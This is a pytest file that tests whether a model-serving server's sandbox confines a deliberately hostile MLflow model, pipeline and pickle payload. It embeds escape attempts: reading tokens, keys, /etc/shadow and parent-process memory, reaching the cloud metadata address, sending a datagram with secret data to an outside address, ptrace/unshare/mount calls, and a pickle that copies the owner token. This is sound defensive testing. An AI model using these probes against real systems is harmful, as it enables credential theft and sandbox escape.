"""A hostile model and a hostile pipeline, through the real server: every attempt fails, and the server goes on."""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import mlflow
import mlflow.pyfunc
import pandas as pd
import pytest
from mlflow.models import ModelSignature
from mlflow.types.schema import ColSpec, Schema

from modelkeel.core.sandbox import LAUNCHER, Sandbox, isolation
from tests.conftest import Server, start_server

pytestmark = pytest.mark.skipif(not isolation().holds, reason="this kernel has no Landlock or no seccomp")

ATTEMPTS = '''
import ctypes, json, os, pickle, socket, subprocess, sys, urllib.request

ARMED = "PYTEST_CURRENT_TEST" not in os.environ  # logging and the first run happen on the test's own side

def read(path):
    with open(path, "rb") as file:
        return file.read(40)

def write(path):
    with open(path, "w") as file:
        file.write("left behind")

def link(target, scratch):
    place = os.path.join(scratch, "innocent")
    os.symlink(target, place)
    return read(place)

def hard_link(target, scratch):
    place = os.path.join(scratch, "hard")
    os.link(target, place)
    return read(place)

def connect(address):
    with socket.create_connection(address, timeout=2) as found:
        return repr(found)

def unix(path):
    with socket.socket(socket.AF_UNIX) as found:
        found.connect(path)
        return path

def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as found:
        return found.sendto(b"secret", ("203.0.113.7", 53))

def raw():
    return repr(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))

def call(name, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    found = getattr(libc, name)(*arguments)
    if found < 0:
        raise OSError(ctypes.get_errno(), name)
    return found

def attempts(facts):
    """Every attempt by name; each returns what it got, or raises."""
    home, scratch, parent = facts["home"], os.environ["TMPDIR"], os.getppid()
    return {
        "the owner's token": lambda: read(home + "/owner.token"),
        "the database": lambda: read(home + "/modelkeel.db"),
        "the signing key": lambda: read(home + "/keys/ledger.pem"),
        "another model's files": lambda: os.listdir(home + "/serving/models"),
        "the user's files": lambda: read(facts["private"]),
        "shadow": lambda: read("/etc/shadow"),
        "a symbolic link": lambda: link(home + "/owner.token", scratch),
        "a hard link": lambda: hard_link(home + "/owner.token", scratch),
        "the parent's variables": lambda: read(f"/proc/{parent}/environ"),
        "the parent's root": lambda: os.listdir(f"/proc/{parent}/root" + home),
        "the parent's memory": lambda: read(f"/proc/{parent}/mem"),
        "a file in /tmp": lambda: write(facts["left"]),
        "a file in the home": lambda: write(home + "/left"),
        "a file in /dev/shm": lambda: write("/dev/shm/left") if facts["strict"] else read("/nowhere"),
        "the server's log": lambda: write(home + "/server.log"),
        "the internet": lambda: connect(("1.1.1.1", 443)),
        "the metadata address": lambda: connect(("169.254.169.254", 80)),
        "another local port": lambda: connect(("127.0.0.1", facts["other_port"])),
        "a datagram": datagram if facts["strict"] else lambda: read("/nowhere"),
        "a raw socket": raw,
        "the supervisor's socket": lambda: unix(facts["control_socket"]),
        "signalling the parent": lambda: os.kill(parent, 0) if parent > 1 else os.kill(facts["server_pid"], 0),
        "signalling the server": lambda: os.kill(facts["server_pid"], 0),
        "tracing the server": lambda: call("ptrace", 16, facts["server_pid"], 0, 0),
        "new namespaces": lambda: call("unshare", 0x10000000),
        "mounting": lambda: call("mount", b"none", scratch.encode(), b"tmpfs", 0, None),
        "becoming somebody else": lambda: os.setuid(12345),
        "changing the root": lambda: os.chroot("/"),
        "all the memory": lambda: len(bytearray(os.sysconf("SC_PHYS_PAGES") * os.sysconf("SC_PAGE_SIZE"))),
    }

STRICTLY = {
    "a program": lambda: subprocess.run(["/bin/true"], check=True),
    "a shell": lambda: os.popen("id").read() or (_ for _ in ()).throw(OSError("nothing")),
    "a fork": lambda: os._exit(0) if os.fork() == 0 else "forked",
    "becoming a program": lambda: os.execv("/bin/true", ["true"]),
}

def tried(facts):
    found = {}
    for name, attempt in {**attempts(facts), **(STRICTLY if facts["strict"] else {})}.items():
        try:
            found[name] = f"DONE {attempt()!r}"[:200]
        except (OSError, MemoryError, ValueError) as error:
            found[name] = f"refused {type(error).__name__} {error}"[:200]
    return found
'''

MODEL = """
import mlflow

class Hostile(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        self.facts = dict(context.model_config)
        self.while_loading = tried(self.facts) if ARMED else {}

    def predict(self, context, model_input, params=None):
        # A number for each question, since endpoints answer numbers: 1 for what was done, 0 for what was refused.
        now = tried(self.facts) if ARMED else {}
        answers = []
        for what in model_input["what"]:
            name, _, when = what.partition("|")
            found = self.while_loading if when == "loading" else now
            if not ARMED or name == "nothing":
                answers.append(-1.0)
            elif name == "variables":
                told = json.dumps(dict(os.environ))
                answers.append(float("do not pass on" in told or "MODELKEEL" in told or "TOKEN" in told))
            else:
                answers.append(float(not found[name].startswith("refused")))
        return answers

mlflow.models.set_model(Hostile())
"""

PIPELINE = """
import json
import os
import modelkeel as keel
import mlflow

@keel.step
def attack(facts: str) -> str:
    told = json.loads(facts)
    found = tried(told) if ARMED else {}
    found["variables"] = json.dumps(sorted(os.environ))
    return json.dumps(found)

@keel.pipeline
def hostile(facts: str) -> str:
    found = attack(facts)
    return tell(found)

@keel.step
def tell(found: str) -> str:
    mlflow.log_dict(json.loads(found), "found.json")
    return found
"""


@dataclass
class Target:
    """A server that holds something worth stealing, and what the attacker knows of it."""

    server: Server
    folder: Path
    private: Path
    other: "subprocess.Popen[bytes]"
    other_port: int

    def facts(self, *, strict: bool) -> dict[str, Any]:
        sockets = [str(path) for path in self.server.home.rglob("*") if path.is_socket()]
        return {
            "home": str(self.server.home),
            "private": str(self.private),
            "left": str(self.folder / "left"),
            "other_port": self.other_port,
            "control_socket": sockets[0] if sockets else str(self.server.home / "none"),
            "server_pid": self.server.process.pid,
            "strict": strict,
        }

    def untouched(self) -> None:
        """Nothing was left, and the server goes on."""
        assert not (self.folder / "left").exists()
        assert not (self.server.home / "left").exists()
        assert not Path("/dev/shm/left").exists()
        assert self.server.client().get("/health").json()["status"] == "ok"


@pytest.fixture(scope="module")
def target() -> Iterator[Target]:
    folder = Path(tempfile.mkdtemp(prefix="mk"))
    private = folder / "id_ed25519"
    private.write_text("the user's own key")
    serve = "import http.server as h; s = h.HTTPServer(('127.0.0.1', 0), h.SimpleHTTPRequestHandler); "
    serve += "print(s.server_port, flush=True); s.serve_forever()"
    other = subprocess.Popen([sys.executable, "-c", serve], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    assert other.stdout is not None
    port = int(other.stdout.readline())
    os.environ["A_SECRET_OF_THE_SERVER"] = "do not pass on"
    try:
        server = start_server(folder / "home")
    finally:
        del os.environ["A_SECRET_OF_THE_SERVER"]
    yield Target(server, folder, private, other, port)
    server.stop()
    other.kill()
    shutil.rmtree(folder, ignore_errors=True)


def _deploy(target: Target, name: str, version: str) -> tuple[str, dict[str, Any]]:
    with target.server.client(target.server.token) as owner:
        owner.put(f"/api/v1/endpoints/{name}", json={"model": f"{name}/{version}"}).raise_for_status()
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            endpoint = owner.get(f"/api/v1/endpoints/{name}").json()
            if endpoint["rollout"]["state"] in {"completed", "aborted"}:
                return endpoint.get("url", ""), endpoint
            time.sleep(0.1)
    raise AssertionError(endpoint)


def _ask(url: str, *questions: str) -> dict[str, float]:
    rows = [{"what": what} for what in questions]
    deadline = time.monotonic() + 15
    while True:  # the runtimes follow the record of the rollout within a moment
        answer = httpx.post(f"{url}/invocations", json={"dataframe_records": rows}, timeout=60)
        if answer.status_code != 404 or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert answer.status_code == 200, answer.text
    return dict(zip(questions, answer.json()["predictions"], strict=True))


def _names(facts: dict[str, Any]) -> list[str]:
    """Of every attempt that a model makes."""
    known: dict[str, Any] = {}
    exec(ATTEMPTS.replace('os.environ["TMPDIR"]', "''"), known)
    return [*known["attempts"](facts), *known["STRICTLY"]]


def test_a_hostile_model_gets_nothing(target: Target, tmp_path: Path):
    script = tmp_path / "hostile.py"
    script.write_text(ATTEMPTS + MODEL)
    mlflow.set_tracking_uri(target.server.url)
    schema = Schema([ColSpec("string", "what")])
    with mlflow.start_run():
        info = mlflow.pyfunc.log_model(
            name="model",
            python_model=str(script),
            signature=ModelSignature(schema, Schema([ColSpec("double")])),
            model_config=target.facts(strict=True),
            input_example=pd.DataFrame({"what": ["nothing"]}),
            pip_requirements=[f"mlflow=={mlflow.__version__}"],
            registered_model_name="hostile",
        )
    assert not (target.folder / "left").exists(), "logging does not load the model"
    url, endpoint = _deploy(target, "hostile", str(info.registered_model_version))
    assert endpoint["rollout"]["state"] == "completed", json.dumps(endpoint)
    names = _names(target.facts(strict=True))
    assert len(names) > 25
    found = _ask(url, *names, *(f"{name}|loading" for name in names), "variables", "nothing")
    assert found.pop("nothing") == -1.0
    assert {name: done for name, done in found.items() if done != 0.0} == {}
    target.untouched()
    assert _ask(url, "nothing") == {"nothing": -1.0}  # it goes on answering: nothing that it did killed it


def test_a_pickle_that_runs_code_runs_it_confined(target: Target):
    """Unpickling is running: the published attack on model registries, with a marker file as its effect."""
    marker = target.folder / "left"
    home = target.server.home

    class Payload:
        def __reduce__(self) -> tuple[Any, tuple[str]]:
            steal = f"open({str(marker)!r}, 'w').write(open({str(home / 'owner.token')!r}).read())"
            return exec, (f"import os\nif 'PYTEST_CURRENT_TEST' not in os.environ: {steal}",)

    class Carrier(mlflow.pyfunc.PythonModel):
        payload: Any = None

        def predict(self, _context: Any, model_input: Any) -> list[float]:
            return [1.0 for _ in range(len(model_input))]

    carrier = Carrier()
    carrier.payload = Payload()
    mlflow.set_tracking_uri(target.server.url)
    schema = ModelSignature(Schema([ColSpec("string", "what")]), Schema([ColSpec("double")]))
    with mlflow.start_run():
        info = mlflow.pyfunc.log_model(
            name="model",
            python_model=carrier,
            signature=schema,
            registered_model_name="pickled",
            input_example=pd.DataFrame({"what": ["nothing"]}),
            pip_requirements=[f"mlflow=={mlflow.__version__}"],
        )
    _, endpoint = _deploy(target, "pickled", str(info.registered_model_version))
    assert endpoint["rollout"]["state"] == "aborted"  # its payload raised: PermissionError
    assert "PermissionError" in json.dumps(endpoint)
    assert not marker.exists()
    target.untouched()


def test_a_pipeline_that_the_server_starts_gets_nothing(target: Target):
    project = target.folder / "project"
    project.mkdir()
    (project / "modelkeel.toml").write_text("")
    (project / "hostile.py").write_text(ATTEMPTS + PIPELINE)
    calm = json.dumps(target.facts(strict=False))
    environment = {**os.environ, "MODELKEEL_HOME": str(target.server.home), "MODELKEEL_URL": target.server.url}
    environment["MODELKEEL_TOKEN"] = target.server.token
    command = [sys.executable, "-m", "modelkeel", "run", "hostile.py:hostile", "-p", f"facts={calm}", "--json"]
    subprocess.run(command, cwd=project, env=environment, check=True, capture_output=True)
    with target.server.client(target.server.token) as owner:
        again = json.dumps({**target.facts(strict=False), "again": True})
        answer = owner.post("/api/v1/pipelines/hostile/launch", json={"params": {"facts": again}}).raise_for_status()
        run_id = answer.json()["run_id"]
        deadline = time.monotonic() + 90
        while (run := owner.get(f"/api/v1/pipelines/runs/{run_id}").json())["status"] in {"launching", "running"}:
            assert time.monotonic() < deadline
            time.sleep(0.2)
    log = (target.server.home / "logs" / f"{run_id}.log").read_text()
    assert run["status"] == "finished", (run["error"], log)
    mlflow.set_tracking_uri(target.server.url)
    found = mlflow.artifacts.load_dict(f"runs:/{run_id}/found.json")
    variables = json.loads(found.pop("variables"))
    assert "A_SECRET_OF_THE_SERVER" not in variables
    assert len(found) > 25
    assert {name: what for name, what in found.items() if not what.startswith("refused")} == {}
    target.untouched()
    deadline = time.monotonic() + 10
    while (target.server.home / "scratch" / run_id).exists():
        assert time.monotonic() < deadline, "the scratch folder is removed"
        time.sleep(0.1)


def test_a_team_is_told_where_nothing_can_be_confined(tmp_path: Path):
    """`demanded` on a machine without Landlock: no code runs. The launcher's own answer, with its probe replaced."""
    script = tmp_path / "model.py"
    script.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    folder = tmp_path / "launcher"
    shutil.copytree(LAUNCHER.parent, folder)
    (folder / "landlock.py").write_text("def version():\n    return 0\n")
    command = Sandbox(write=[str(tmp_path)], demanded=True).script(sys.executable, script)
    command[3] = str(folder / "launcher.py")
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 97
    assert "isolation is demanded" in done.stderr
    assert not (tmp_path / "ran").exists()


def _without_namespaces(folder: Path) -> Path:
    """The launcher as it is on a machine whose users may make no namespaces."""
    shutil.copytree(LAUNCHER.parent, folder)
    found = folder / "namespaces.py"
    found.write_text(f"{found.read_text()}\n\ndef available():\n    return False\n")
    return folder / "launcher.py"


@pytest.mark.parametrize("namespaces", [True, False])
def test_only_the_control_address_answers(tmp_path: Path, target: Target, namespaces: bool):
    if not namespaces and isolation().landlock < 4:
        pytest.skip("without namespaces, TCP is confined by Landlock 4 and later only")
    script = tmp_path / "reach.py"
    script.write_text(
        "import socket, sys\n"
        "for port in sys.argv[1:]:\n"
        "    try:\n"
        "        with socket.create_connection(('127.0.0.1', int(port)), timeout=5) as found:\n"
        "            found.sendall(b'GET /health HTTP/1.1\\r\\nHost: localhost\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "            print(b''.join(iter(lambda: found.recv(4096), b''))[:15])\n"
        "    except OSError as error:\n"
        "        print(type(error).__name__)\n"
    )
    control = target.server.url.removeprefix("http://")
    sandbox = Sandbox(read=[str(script)], strict=False, control=control, demanded=True)
    port = control.rpartition(":")[2]
    command = sandbox.program(sys.executable, str(script), port, str(target.other_port))
    if not namespaces:
        command[3] = str(_without_namespaces(tmp_path / "launcher"))
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == 0, done.stderr
    first, second = done.stdout.split("\n")[:2]
    assert first == "b'HTTP/1.1 200 OK'"
    assert second == "PermissionError"
